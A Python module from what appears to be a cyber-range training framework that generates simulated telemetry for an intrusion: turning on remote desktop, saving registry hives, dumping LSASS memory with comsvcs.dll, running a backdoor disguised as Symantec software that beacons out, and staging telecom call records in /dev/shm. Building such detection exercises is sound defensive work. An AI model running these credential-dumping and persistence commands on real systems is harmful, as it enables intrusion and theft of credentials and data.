"""Onward to the jump host and the mediation server."""

from typing import Final

from sidelight.training.range import layouts, programs
from sidelight.training.range.clock import MINUTE, SECOND
from sidelight.training.range.estate import (
    ADMIN,
    JUMP,
    NETBIOS,
    NOC,
    Program,
    unmarked,
    vendor,
    windows,
)
from sidelight.training.range.linux import AUTH, Account
from sidelight.training.range.stage import Stage

BACKDOOR_FOLDER: Final = "C:\\ProgramData\\RasMedia\\"
BACKDOOR: Final = vendor(
    BACKDOOR_FOLDER + "rastls.exe", "802.1x supplicant", "Symantec Corporation", "11.0.4010.19",
    signer="Symantec Corporation", original="dot1xtra.exe",
)  # fmt: skip
BACKDOOR_LIBRARY: Final = unmarked(BACKDOOR_FOLDER + "rastls.dll")
CONTROL: Final = "198.51.100.201"

_WOW64: Final[tuple[Program, ...]] = tuple(
    windows(path, what)
    for path, what in (
        ("System32\\wow64.dll", "Win32 Emulation on NT64"),
        ("System32\\wow64win.dll", "Wow64 Console and Win32 API Logging"),
        ("System32\\wow64cpu.dll", "AMD64 Wow64 CPU"),
        ("SysWOW64\\ntdll.dll", "NT Layer DLL"),
        ("SysWOW64\\kernel32.dll", "Windows NT BASE API Client DLL"),
        ("SysWOW64\\ws2_32.dll", "Windows Socket 2.0 32-Bit DLL"),
    )
)


def open_desktop(stage: Stage, at: int) -> None:
    """Switch remote desktop on from another host's management call."""
    desk = stage.desks["JUMP01"]
    m = desk.machine
    session = m.logon(at, ADMIN, 3, NOC.address, "NOC-WS01")
    command = "C:\\Windows\\system32\\wbem\\wmiprvse.exe -secured"
    provider = m.process(at, programs.WMIPRVSE, command, session, "High")
    value = "HKLM\\SYSTEM\\CurrentControlSet\\Control\\Terminal Server"
    reg = f'reg add "{value}" /v fDenyTSConnections /t REG_DWORD /d 0 /f'
    rule = (
        'netsh advfirewall firewall add rule name="Remote Assistance" dir=in action=allow '
        "protocol=TCP localport=3389"
    )
    for program, command in ((programs.REG, reg), (programs.NETSH, rule)):
        at += 8 * SECOND
        shell = m.start(at, programs.CMD, f"cmd.exe /Q /c {command}", provider)
        child = m.start(at + 90_000, program, command, shell)
        if program is programs.REG:
            key = "HKLM\\System\\CurrentControlSet\\Control\\Terminal Server\\fDenyTSConnections"
            m.set_value(at + 120_000, child, key, "DWORD (0x00000000)")
        m.end(at + SECOND, child)
    m.logoff(at + MINUTE, session, 3)


def hop_in(stage: Stage, at: int) -> None:
    """Log on to the jump host by remote desktop."""
    source = stage.desks["NOC-WS01"].machine
    client = source.start(at, programs.MSTSC, "mstsc.exe /v:10.20.5.5", stage.cast["second"])
    source.connect(at + SECOND, client, JUMP.address, 3389)
    desk = stage.desks["JUMP01"]
    m = desk.machine
    m.log(at + SECOND, layouts.RDP_AUTHENTICATED, ADMIN.name, NETBIOS, NOC.address)
    session = m.logon(at + 2 * SECOND, ADMIN, 10, NOC.address, "NOC-WS01")
    m.log(at + 3 * SECOND, layouts.SESSION_ON, ADMIN.full, 4, NOC.address)
    explorer = m.start(at + 4 * SECOND, programs.EXPLORER, "C:\\Windows\\Explorer.EXE",
                       desk.winlogon, session=session, integrity="High")  # fmt: skip
    shell = m.start(at + MINUTE, programs.CMD, '"C:\\Windows\\system32\\cmd.exe"', explorer)
    stage.cast["shell"] = shell
    m.logoff(at + 90 * MINUTE, session, 10)


def save_hives(stage: Stage, at: int) -> None:
    """Save the three hives."""
    m = stage.desks["JUMP01"].machine
    for hive in ("sam", "system", "security"):
        at += 9 * SECOND
        target = f"C:\\ProgramData\\RasMedia\\{hive[:3]}.hiv"
        reg = m.start(at, programs.REG, f"reg save hklm\\{hive} {target} /y", stage.cast["shell"])
        m.write(at + SECOND, reg, target)
        m.end(at + 2 * SECOND, reg)


def dump_lsass(stage: Stage, at: int) -> None:
    """Dump the credential store with a library of Windows, then read it from memory."""
    desk = stage.desks["JUMP01"]
    m = desk.machine
    target = "C:\\ProgramData\\RasMedia\\l.tmp"
    command = (
        f"rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump {desk.lsass.pid} {target} full"
    )
    dump = m.start(at, programs.RUNDLL32, command, stage.cast["shell"])
    m.load(at + 50_000, dump, windows("System32\\comsvcs.dll", "COM+ Services"))
    trace = (
        "C:\\Windows\\SYSTEM32\\ntdll.dll+9d4c4|C:\\Windows\\System32\\KERNELBASE.dll+2c0fe|"
        "C:\\Windows\\SYSTEM32\\comsvcs.dll+26a1e|C:\\Windows\\system32\\rundll32.exe+3b1c"
    )
    m.access(at + SECOND, dump, desk.lsass, 0x1FFFFF, trace)
    m.write(at + 2 * SECOND, dump, target)
    m.access(at + 4 * SECOND, dump, desk.lsass, 0x1010, stage.unbacked())


def run_wow64(stage: Stage, at: int) -> None:
    """Run the 32-bit back door."""
    m = stage.desks["JUMP01"].machine
    for name in ("rastls.exe", "rastls.dll"):
        m.write(at, stage.cast["shell"], BACKDOOR_FOLDER + name)
    door = m.start(at + 20 * SECOND, BACKDOOR, f"{BACKDOOR.path} -s", stage.cast["shell"],
                   folder=BACKDOOR_FOLDER)  # fmt: skip
    at += 20 * SECOND
    for module in (BACKDOOR, *_WOW64, BACKDOOR_LIBRARY):
        at += 40_000
        m.load(at, door, module)
    frames = (
        "C:\\Windows\\SYSTEM32\\ntdll.dll+9d4c4|C:\\Windows\\System32\\wow64.dll+84a3|"
        "C:\\Windows\\System32\\wow64cpu.dll+1cf3|C:\\Windows\\SYSTEM32\\ntdll.dll+70b2c(wow64)|"
        "C:\\Windows\\System32\\KERNELBASE.dll+11c2a2(wow64)|UNKNOWN(00000000026A1234)"
    )
    m.access(at + SECOND, door, stage.desks["JUMP01"].svchost, 0x1F3FFF, frames)
    for _ in range(4):
        at += 6 * MINUTE
        m.connect(at, door, CONTROL, 443)


def reach_mediation(stage: Stage, at: int) -> None:
    """Log in to the mediation server from the jump host."""
    desk = stage.desks["JUMP01"]
    client = desk.machine.process(at, programs.PUTTY, "putty.exe -ssh med01", desk.user, "High")
    desk.machine.connect(at, client, stage.server.host.address, 22)
    stage.server.accept(at + SECOND, "mediation", JUMP.address, 411, key=False)


_TOOL: Final = "/dev/shm/.kupd"  # noqa: S108
_PACKED: Final = "/dev/shm/.r.tgz"  # noqa: S108


def stage_records(stage: Stage, at: int) -> None:
    """Become root, run a tool from shared memory, pack call records."""
    server = stage.server
    text = "mediation : TTY=pts/1 ; PWD=/home/mediation ; USER=root ; COMMAND=/usr/bin/bash"
    server.say(at, AUTH, "sudo", text)
    root = Account("root", 0, 1001, 411)
    commands = (
        ("/usr/bin/bash", ("bash",)),
        ("/usr/bin/cp", ("cp", "/home/mediation/.cache/kupd", _TOOL)),
        ("/usr/bin/chmod", ("chmod", "755", _TOOL)),
        (_TOOL, ("[kworker/2:1]",)),
        ("/usr/bin/tar", ("tar", "czf", _PACKED, "/data/cdr/out/2024-06")),
    )
    for exe, arguments in commands:
        at += stage.rng.randrange(4 * SECOND, 40 * SECOND)
        server.run(at, root, exe, arguments, "/home/mediation")
